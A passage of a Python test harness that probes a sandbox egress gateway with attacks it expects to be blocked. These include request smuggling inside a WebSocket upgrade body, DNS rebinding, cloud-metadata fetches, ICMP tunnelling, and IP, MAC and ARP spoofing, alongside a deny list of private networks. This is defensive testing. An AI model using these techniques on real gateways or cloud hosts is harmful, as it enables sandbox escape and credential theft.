                  "--cacert", env.gwca["root"], "--message", msg)
    recs = env.logs.since(m, "allowed", event="ws")
    check("positive: WebSocket echo through the gateway on an allowed name",
          r.get("echo") == msg and any(x.get("data") == msg for x in recs), r)

    # "Upgrade: websocket" then "Upgrade: h2c": the upstream reads both
    # offers; only a lone WebSocket offer may pass.
    m, am = marks(env)
    r = env.guest(sb, "req", N("allowed"), 80, "--req", "GET %s /atk-dup-upgrade" % N("allowed"),
                  "--header", "Connection: Upgrade, HTTP2-Settings",
                  "--header", "Upgrade: websocket", "--header", "Upgrade: h2c",
                  "--header", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
    up = [h for x in env.logs.since(m, "allowed", event="request", path="/atk-dup-upgrade")
          for h in x.get("headers", []) if h[0].lower() in ("upgrade", "http2-settings")]
    statuses = [x.get("status") for x in r.get("responses", [])]
    check("two Upgrade headers (websocket, h2c): no offer reaches upstream, never switched",
          101 not in statuses and not up, {"statuses": statuses, "upstream_headers": up})

    # An upgrade request with a body: the body must stay a body. Were it
    # held back, an upstream answering without 101 (and then discarding
    # the body it was promised, as Go's server does) reads the next
    # request the gateway checks as that body, and the bytes after it,
    # which the gateway passed as an unchecked body, as a request.
    m, am = marks(env)
    smuggled = "GET /atk-ws-smuggled HTTP/1.1\r\nHost: %s\r\n\r\n" % N("forbidden")
    r = env.guest(sb, "req", N("allowed"), 443, "--tls", "--sni", N("allowed"),
                  "--req", "GET %s /atk-ws-body" % N("allowed"),
                  "--header", "Connection: Upgrade", "--header", "Upgrade: websocket",
                  "--header", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                  "--header", "Sec-WebSocket-Version: 13", "--body", smuggled, timeout=20)
    resp = (r.get("responses") or [{}])[0]
    got = resp.get("json", {})
    up = [h for x in env.logs.since(m, "allowed", event="request", path="/atk-ws-body")
          for h in x.get("headers", []) if h[0].lower() == "upgrade"]
    check("WebSocket upgrade with a body: answered as a plain request, the body passed as a body",
          got.get("path") == "/atk-ws-body" and got.get("body") == smuggled and not up,
          {"response": resp, "upstream_upgrade": up})
    blocked(env, "WebSocket upgrade with a body: nothing behind it reaches upstream as a request",
            True, r, m, am,
            nothing=[("forbidden", {}), ("allowed", {"path": "/atk-ws-smuggled"})],
            dial_ok=[A["allowed"]])


def cat_ipv6(env):
    sb = env.sb1
    m, am = marks(env)
    rc, code, body = env.curl(sb, "-6", "https://[%s]/atk-v6" % A["v6"], timeout=5)
    rc2, code2, body2 = env.curl(sb, "-6", "http://%s/atk-v6name" % N("v6"), timeout=5)
    blocked(env, "IPv6 to a v6 address and to an allowed v6-only name",
            silent(body) and silent(body2),
            "%s %s / %s %s" % (code, body[:100], code2, body2[:100]), m, am,
            nothing=[("v6", {}), ("packets", {"foreign": True})], audit_l3=True)
    m, am = marks(env)
    rc, code, body = env.curl(sb, "-6", "http://[%s]/latest" % A["metadata6"], timeout=5)
    blocked(env, "IPv6 cloud metadata fd00:ec2::254", silent(body),
            "%s %s" % (code, body[:100]), m, am,
            nothing=[("metadata6", {}), ("packets", {"foreign": True})], audit_l3=True)


def cat_icmp(env):
    sb = env.sb1
    rc, out, _ = env.sh(sb, "ping", "-c1", "-W2", "10.0.0.1")
    check("positive: a small ping of 10.0.0.1 is answered by the island", rc == 0,
          out.strip().splitlines()[-2:] if out else rc)
    for argv, what in ((["-c2", "-W1", A["allowed"]], "ping an internet address"),
                       (["-c2", "-W1", "-s", "1200", "10.0.0.1"], "large-payload ping of 10.0.0.1"),
                       (["-c2", "-W1", "-p", "deadbeef", "-s", "64", tn.UP_ADDR],
                        "ping the gateway host with a patterned payload (ICMP tunnel)")):
        m, am = marks(env)
        rc, out, _ = env.sh(sb, "ping", *argv)
        blocked(env, "ICMP: %s" % what, rc != 0 and " 0 received" in out,
                out.strip().splitlines()[-2:] if out else rc, m, am,
                nothing=[("packets", {"proto": "icmp"})], audit_l3=True)


DENIED_NETS = [ipaddress.ip_network(n) for n in (
    "0.0.0.0/8", "10.0.0.0/8", "100.64.0.0/10", "127.0.0.0/8", "169.254.0.0/16", "172.16.0.0/12",
    "192.168.0.0/16", "224.0.0.0/4", "240.0.0.0/4", "::1/128", "fc00::/7", "fe80::/10", "ff00::/8")]


def _private(addr):
    """A destination the gateway must never hand out or dial (Python's
    is_private also covers the documentation ranges the test internet uses)."""
    try:
        ip = ipaddress.ip_address(addr)
    except ValueError:
        return False
    return str(ip) == tn.UP_ADDR or any(ip.version == n.version and ip in n for n in DENIED_NETS)


def cat_rebinding(env):
    sb = env.sb1
    names = ["rebind-private", "rebind-loopback", "rebind-metadata", "rebind-rfc1918",
             "rebind-cgnat", "rebind-mixed", "cname-private", "metadata", "host", "sandbox"]
    m, am = marks(env)
    bad = []
    seen = {}
    for n in names:
        for t in ("A", "AAAA"):
            r = env.guest(sb, "dns", N(n), "--type", t)
            got = [a["data"] for a in r.get("answers", []) if a["type"] in ("A", "AAAA")]
            seen["%s/%s" % (n, t)] = r.get("rcode") if not got else got
            bad += [(n, a) for a in got if _private(a)]
    r = env.guest(sb, "dns", N("rebind-v6"), "--type", "AAAA")
    got = [a["data"] for a in r.get("answers", [])]
    bad += [("rebind-v6", a) for a in got if _private(a)]
    check("rebinding [guest]: no answer carries a private/loopback/link-local/CGNAT/host address",
          not bad, bad or seen)
    mixed = env.guest(sb, "dns", N("rebind-mixed"))
    check("rebinding: the public address of a mixed answer is kept",
          [a["data"] for a in mixed.get("answers", [])] == [A["allowed"]], mixed)
    flips = []
    for i in range(4):
        r = env.guest(sb, "dns", N("flip"))
        flips += [a["data"] for a in r.get("answers", [])]
        time.sleep(1.1)
    check("rebinding: a name flipping public/metadata (TTL 1) never answers metadata",
          A["metadata"] not in flips, flips)

    # The gateway's own dial: the guest claims a public address; the
    # gateway resolves the name itself and must refuse the private result.
    for n, scheme in (("rebind-private", "http"), ("rebind-loopback", "https"),
                      ("rebind-metadata", "http"), ("rebind-rfc1918", "https"),
                      ("rebind-cgnat", "http"), ("cname-private", "http"), ("flip", "http"),
                      ("flip", "http")):
        m, am = marks(env)
        port = 443 if scheme == "https" else 80
        rc, code, body = env.curl(sb, "--resolve", "%s:%d:%s" % (N(n), port, A["allowed"]),
                                  "%s://%s/atk-rebind" % (scheme, N(n)))
        role = echo_json(body).get("role")
        blocked(env, "rebinding: %s://%s (gateway dials the name)" % (scheme, n),
                role in (None, "allowed") and not (role == "allowed" and n != "flip"),
                "%s %s" % (code, body[:160]), m, am,
                nothing=[("private", {}), ("metadata", {}), ("host", {}),
                         ("allowed", {"host": N(n)}) if n != "flip" else ("private", {})],
                audit={"decision": "deny"} if n != "flip" else None,
                audit_any=N(n) if n != "flip" else None,
                dial_ok=[A["allowed"]] if n == "flip" else ())
        if n == "flip":
            time.sleep(1.1)


def cat_metadata(env):
    sb = env.sb1
    m, am = marks(env)
    rc, code, body = env.curl(sb, "http://%s/latest/meta-data/" % A["metadata"])
    blocked(env, "cloud metadata 169.254.169.254 by address", silent(body),
            "%s %s" % (code, body[:160]), m, am, nothing=[("metadata", {})],
            audit={"dst": A["metadata"]})
    m, am = marks(env)
    rc, code, body = env.curl(sb, "--resolve", "%s:80:%s" % (N("metadata"), A["allowed"]),
                              "http://%s/latest/meta-data/" % N("metadata"))
    blocked(env, "cloud metadata through an allowed name that resolves to it",
            silent(body), "%s %s" % (code, body[:160]), m, am,
            nothing=[("metadata", {}), ("allowed", {"host": N("metadata")})],
            audit_any=N("metadata"))


def cat_host(env):
    sb = env.sb1
    cases = [
        ("the host's upstream address 192.0.2.2:7070",
         lambda: env.curl(sb, "http://%s:7070/v1/sandboxes" % tn.UP_ADDR), "%s:7070" % tn.UP_ADDR),
        ("an allowed name (host:7070 rule) resolving to the host",
         lambda: env.curl(sb, "--resolve", "%s:7070:%s" % (N("host"), A["allowed"]),
                          "http://%s:7070/v1/sandboxes" % N("host")), "%s:7070" % A["allowed"]),
        ("an allowed name resolving to the host, HTTPS",
         lambda: env.curl(sb, "--resolve", "%s:443:%s" % (N("host"), A["allowed"]),
                          "https://%s/" % N("host")), N("host")),
        ("airlockd's API via a name resolving to 127.0.0.1 (rule :7070)",
         lambda: env.curl(sb, "--resolve", "%s:7070:%s" % (N("rebind-loopback"), A["allowed"]),
                          "http://%s:7070/v1/sandboxes" % N("rebind-loopback")),
         "%s:7070" % A["allowed"]),
    ]
    for what, fn, needle in cases:
        m, am = marks(env)
        rc, code, body = fn()
        blocked(env, "reaching the host: %s" % what, silent(body),
                "%s %s" % (code, body[:160]), m, am,
                nothing=[("host", {}), ("private", {}), ("catchall", {"dst": tn.UP_ADDR})],
                audit={"decision": "deny"}, audit_any=needle)
    for port in (22, 7070, 15001, 53):
        m, am = marks(env)
        r = env.guest(sb, "tcp", "10.0.0.1", port, "--send", "GET / HTTP/1.0\r\n", "--timeout", 3)
        blocked(env, "reaching the host: 10.0.0.1:%d (island side)" % port,
                not r.get("data"), r, m, am, nothing=[("host", {})],
                audit={"dst": "10.0.0.1:%d" % port})


def cat_sandboxes(env):
    sb1, sb2 = env.sb1, env.sb2
    m, am = marks(env)
    # The guest points the allowed name (rule sandbox:8000) at a public
    # address; the gateway resolves it to 10.0.0.2 itself and must refuse.
    sb1.write_hosts("%s %s\n" % (A["allowed"], N("sandbox")))
    try:
        r = env.guest(sb1, "tcp", N("sandbox"), 8000, "--send", "hello-neighbour",
                      "--timeout", 3)
    finally:
        sb1.write_hosts("")
    r2 = env.guest(sb1, "tcp", "10.0.0.2", 8000, "--timeout", 2)
    time.sleep(0.2)
    try:
        seen = open(os.path.join(env.scratch, "listener2.log")).read()
    except OSError:
        seen = ""
    check("other sandboxes [guest]: the allowed name resolving to a guest address fails",
          not r.get("data"), r)
    syns = env.logs.since(m, "packets", proto="tcp")
    check("other sandboxes [upstream]: the second stand-in's listener saw nothing, "
          "nothing dialled", seen == "" and not syns, seen[:300] or syns[:3])
    recs = env.audit.find(am, decision="deny", dst="%s:8000" % A["allowed"])
    check("other sandboxes [audit]", bool(recs), recs[:1] or env.audit.since(am)[-3:])
    # The same guest address used directly only ever reaches the guest itself.
    check("other sandboxes: 10.0.0.2 from a guest is that guest itself",
          "neighbour-listener" not in r2.get("data", ""), r2)
    # Policies are per island: what sandbox 2 may do, sandbox 1 may not.
    m, am = marks(env)
    rc, code, body = env.curl(sb2, "https://%s/p-full" % N("unlisted"), cacert=env.bundle)
    e = echo_json(body)
    check("positive: full mode reaches a host in no list", e.get("role") == "unlisted", body)
    recs = env.audit.find(am, sni=N("unlisted"))
    check("positive: full-mode traffic is audited under its own sandbox",
          bool(recs) and all(x.get("sandbox") == sb2.name for x in recs), recs[:2])
    m, am = marks(env)
    rc, code, body = env.curl(sb1, "--resolve", "%s:443:%s" % (N("unlisted"), A["unlisted"]),
                              "https://%s/atk-other-policy" % N("unlisted"))
    blocked(env, "other sandboxes: sandbox 1 cannot use sandbox 2's full-mode policy",
            silent(body), "%s %s" % (code, body[:160]), m, am,
            nothing=[("unlisted", {})], audit={"sandbox": sb1.name, "decision": "deny"},
            audit_any=N("unlisted"))
    for what, args, needle in (
            ("169.254.169.254", ["http://%s/latest/" % A["metadata"]], A["metadata"]),
            ("a name rebinding to metadata (guest claims a public address)",
             ["--resolve", "%s:80:%s" % (N("rebind-metadata"), A["allowed"]),
              "http://%s/latest/" % N("rebind-metadata")], N("rebind-metadata")),
            ("the host 192.0.2.2:7070", ["http://%s:7070/" % tn.UP_ADDR], tn.UP_ADDR),
            ("RFC 1918 192.168.1.1", ["http://192.168.1.1/"], "192.168.1.1"),
            ("the host's loopback via a name, HTTPS",
             ["--resolve", "%s:443:%s" % (N("rebind-loopback"), A["allowed"]),
              "https://%s/" % N("rebind-loopback")], N("rebind-loopback"))):
        m, am = marks(env)
        rc, code, body = env.curl(sb2, *args)
        blocked(env, "full mode still denies %s" % what, silent(body),
                "%s %s" % (code, body[:160]), m, am,
                nothing=[("metadata", {}), ("host", {}), ("private", {}),
                         ("allowed", {"path": "/latest/"})],
                audit={"sandbox": sb2.name}, audit_any=needle)


def cat_source_spoof(env):
    sb = env.sb1
    tap = env.tap_mac
    good_ip, good_mac = standin.GUEST_ADDR, standin.GUEST_MAC
    tag = "spoof" + secrets.token_hex(4)

    def query(name):
        return dnsmsg.build_query("%s.%s" % (name, tn.ZONE), "A", qid=0x4242).hex()

    m, am = marks(env)
    r = env.guest(sb, "raw-udp", "--src-ip", good_ip, "--src-mac", good_mac, "--dst-mac", tap,
                  "--dst-ip", "10.0.0.1", "--dport", 53, "--sport", 40001,
                  "--payload-hex", query(tag + "-ok"))
    recs = env.audit.find(am, qname=tag + "-ok")
    check("source spoofing (control): a hand-made DNS frame from the real address is answered",
          r.get("reply") is True and bool(recs), r)
    for what, ip, mac in (("another IP (10.0.0.3)", "10.0.0.3", good_mac),
                          ("another MAC", good_ip, "52:54:00:0a:00:99"),
                          ("an outside IP (203.0.113.10)", A["allowed"], good_mac)):
        m, am = marks(env)
        n = "%s-%s" % (tag, secrets.token_hex(2))
        r = env.guest(sb, "raw-udp", "--src-ip", ip, "--src-mac", mac, "--dst-mac", tap,
                      "--dst-ip", "10.0.0.1", "--dport", 53, "--sport", 40002,
                      "--payload-hex", query(n))
        recs = env.audit.find(am, timeout=1, qname=n)
        check("source spoofing: DNS from %s is dropped before the gateway" % what,
              r.get("reply") is False and not recs, {"guest": r, "audit": recs[:1]})
        m, am = marks(env)
        r = env.guest(sb, "raw-syn", "--src-ip", ip, "--src-mac", mac, "--dst-mac", tap,
                      "--dst-ip", A["allowed"], "--dport", 443, "--sport", 40003)
        check("source spoofing: TCP SYN from %s gets no answer" % what, r.get("reply") is False,
              r)
    r = env.guest(sb, "raw-syn", "--src-ip", good_ip, "--src-mac", good_mac, "--dst-mac", tap,
                  "--dst-ip", A["allowed"], "--dport", 443, "--sport", 40004)
    check("source spoofing (control): a hand-made SYN from the real address is answered",
          r.get("reply") is True, r)


def cat_arp(env):
    sb = env.sb1
    tap = env.tap_mac
    good_ip, good_mac = standin.GUEST_ADDR, standin.GUEST_MAC
    env.sh(sb, "ping", "-c1", "-W1", "10.0.0.1")
    r = env.guest(sb, "arp", "--sender-ip", good_ip, "--sender-mac", good_mac,
                  "--target-ip", "10.0.0.1", "--dst-mac", "ff:ff:ff:ff:ff:ff", "--op", "request")
    check("ARP (control): the island answers the guest's own ARP request", r.get("reply") is True,
          r)
    r = env.guest(sb, "arp", "--sender-ip", "10.0.0.3", "--sender-mac", "52:54:00:0a:00:99",
                  "--target-ip", "10.0.0.1", "--dst-mac", "ff:ff:ff:ff:ff:ff", "--op", "request")
    check("ARP spoofing: a request from another address gets no answer", r.get("reply") is False,
          r)
    for ip, mac in (("10.0.0.2", "52:54:00:0a:00:99"), ("10.0.0.3", "52:54:00:0a:00:99"),
                    ("10.0.0.1", good_mac)):
        env.guest(sb, "arp", "--sender-ip", ip, "--sender-mac", mac, "--target-ip", "10.0.0.1",
                  "--dst-mac", tap, "--op", "reply")
    rc = sb.island_run("ip", "neigh", "show", "dev", "tap0", check=False)
    neigh = rc.stdout
    check("ARP spoofing: the island's neighbour table is not poisoned",
          "52:54:00:0a:00:99" not in neigh and "10.0.0.3" not in neigh,
          neigh.strip() or "(empty)")
    rc, out, _ = env.sh(sb, "ping", "-c1", "-W2", "10.0.0.1")
    check("ARP spoofing: the guest still reaches 10.0.0.1 afterwards", rc == 0,
          out.strip().splitlines()[-2:] if out else rc)


def cat_sni(env):
    sb = env.sb1
    m, am = marks(env)
    r = env.guest(sb, "req", A["allowed"], 443, "--tls", "--no-sni",
                  "--req", "GET %s /atk-nosni" % N("allowed"))
    blocked(env, "TLS without SNI", not reached(r, "allowed"), r, m, am,
            nothing=[("allowed", {"path": "/atk-nosni"})], audit={"dst": "%s:443" % A["allowed"]})
    m, am = marks(env)
    r = env.guest(sb, "req", A["allowed"], 80, "--req", "GET %s /atk-http80" % N("forbidden"))
    blocked(env, "plain HTTP to :80 with a forbidden Host", not reached(r, "allowed") and
            not reached(r, "forbidden"), r, m, am,
            nothing=[("forbidden", {}), ("allowed", {"path": "/atk-http80"})],
            audit={"host": N("forbidden")})
    m, am = marks(env)
    rc, code, body = env.curl(sb, "--resolve", "%s:80:%s" % (N("forbidden"), A["forbidden"]),
                              "http://%s/atk-http80b" % N("forbidden"))
    blocked(env, "plain HTTP to a forbidden host by its own address",
            silent(body), "%s %s" % (code, body[:160]), m, am,
            nothing=[("forbidden", {})], audit={"host": N("forbidden")})


def cat_leaks(env):
    """Over the whole run."""
    recs = env.logs.since({}, "packets", foreign=True)
    check("whole run: no packet from a guest address ever reached the internet", not recs,
          recs[:3])
    allrecs = []
    for role in ("allowed", "cdn", "forbidden", "unlisted", "proxy", "catchall", "metadata",
                 "private", "host"):
        allrecs += env.logs.since({}, role)
    with_secret = [r for r in allrecs if env.secret in json.dumps(r)]
    legit = [r for r in with_secret if r.get("path") == "/cred-inject"]
    check("whole run: the secret reached upstream only in the bound header of the bound host",
          len(with_secret) == len(legit) and all(r.get("role") == "allowed" for r in legit),
          [{k: r.get(k) for k in ("role", "path", "host")} for r in with_secret][:5])
    check("whole run: the secret never appears in the audit log",
          env.secret.encode() not in env.audit.raw(), "")
    check("whole run: the secret never appears in the gateway's log",
          env.secret not in gwlog_tail(env, 1 << 26), "")


def cat_detach(env):
    r = subprocess.run([env.tool, "stats", "--ctl", env.ctl, "--name", env.sb1.name],
                       capture_output=True, text=True)
    check("gateway: stats for a stand-in", r.returncode == 0, r.stdout.strip()[:300])
    r = env.sb1.detach(env.ctl)
    check("gateway: detach", r.returncode == 0, r.stdout.strip())
    rc, code, body = env.curl(env.sb1, "https://%s/after-detach" % N("allowed"), timeout=5)
    check("after detach the guest reaches nothing", silent(body),
          "%s %s" % (code, body[:100]))


CATEGORIES = [
    ("testnet", cat_testnet), ("dns", cat_dns), ("https", cat_https),
    ("credentials", cat_credentials), ("spoof-dns", cat_spoof_dns),
    ("cdn-fronting", cat_cdn_fronting), ("absolute-h2c", cat_absolute_h2c),
    ("keepalive", cat_keepalive),
    ("connect", cat_connect), ("dns-tunnel", cat_dns_tunnel), ("doh", cat_doh),
    ("udp", cat_udp), ("ports", cat_ports), ("websocket", cat_websocket), ("ipv6", cat_ipv6),
    ("icmp", cat_icmp), ("rebinding", cat_rebinding), ("metadata", cat_metadata),
    ("host", cat_host), ("sandboxes", cat_sandboxes), ("source-spoof", cat_source_spoof),
    ("arp", cat_arp), ("sni", cat_sni), ("leaks", cat_leaks), ("detach", cat_detach),
]


def start_listener2(env):
    """A service in the second guest that the first must never reach."""
    log = os.path.join(env.scratch, "listener2.log")
    open(log, "w").close()
    code = ("import socket\n"
            "s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
            "s.bind(('10.0.0.2', 8000)); s.listen(8)\n"
            "while True:\n"
            "    c,a=s.accept(); open(%r,'a').write('conn %%s\\n' %% (a,)); "
            "c.sendall(b'neighbour-listener\\n'); c.close()\n" % log)
    env.listener2 = subprocess.Popen(["ip", "netns", "exec", env.sb2.ns, GUEST_PY, "-c", code],
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def prerequisites(tool, gwbin):
    if os.geteuid() != 0:
        return "not root"
    for p in (tool, gwbin):
        if not os.access(p, os.X_OK):
            return "%s not built" % p
    for b in ("ip", "nft", "curl", "openssl"):
        if shutil.which(b) is None:
            return "%s not installed" % b
    if not os.access(GUEST_PY, os.X_OK):
        return "%s missing" % GUEST_PY
    return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("gw_standin")
    ap.add_argument("gateway")
    ap.add_argument("--only", help="comma-separated categories")
    ap.add_argument("--keep", action="store_true", help="leave everything up")
    ap.add_argument("--list", action="store_true")
    a = ap.parse_args()
    if a.list:
        print("\n".join(n for n, _ in CATEGORIES))
        return 0
    why = prerequisites(a.gw_standin, a.gateway)
    if why:
        print("skip: %s" % why)
        return 77
    only = set(a.only.split(",")) if a.only else None
    # The whole run: its checks read what reached the test internet, which
    # another test's traffic would pollute (and the stand-in names are fixed).
    with tn.exclusive():
        return run(a, only)


def run(a, only):
    tn.acquire()
    scratch = tempfile.mkdtemp(prefix="airlock-egress-")
    env = Env(a.gw_standin, a.gateway, scratch)
    try:
        ready = (start_gateway(env) and attach(env, env.sb1, policy1(env), "allowlist") and
                 attach(env, env.sb2, policy2(), "full"))
        if ready:
            env.tap_mac = env.sb1.island_run("cat", "/sys/class/net/tap0/address").stdout.strip()
            start_listener2(env)
        for name, fn in CATEGORIES if ready else ():
            if only and name not in only:
                continue
            print("-- %s" % name, flush=True)
            try:
                fn(env)
            except Exception as e:  # a broken check is a failure, the rest still run
                traceback.print_exc()
                check("%s: ran without an exception" % name, False, repr(e))
    finally:
        if env.listener2 is not None:
            env.listener2.kill()
            env.listener2.wait()
        if env.gw is not None and not a.keep:
            for sb in (env.sb1, env.sb2):
                sb.detach(env.ctl)
            env.gw.send_signal(signal.SIGTERM)
            try:
                rc = env.gw.wait(20)
            except subprocess.TimeoutExpired:
                env.gw.kill()
                rc = env.gw.wait()
            log = gwlog_tail(env, 1 << 26)
            report = None
            for marker in ("ERROR: AddressSanitizer", "ERROR: LeakSanitizer", "runtime error:"):
                i = log.find(marker)
                if i >= 0:
                    report = log[max(0, i - 200):i + 3000]
                    break
            check("gateway: exited cleanly on SIGTERM, no sanitizer report",
                  rc == 0 and report is None, report or "exit %s" % rc)
            if failures:
                print("gateway log tail:\n" + gwlog_tail(env, 6000))
        if not a.keep:
            for sb in (env.sb1, env.sb2):
                sb.destroy()
            shutil.rmtree(scratch, ignore_errors=True)
            tn.release()
        else:
            print("kept: scratch %s, gateway pid %s" % (scratch, env.gw.pid if env.gw else None))
    print("%d passed, %d failed" % (passed, len(failures)))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
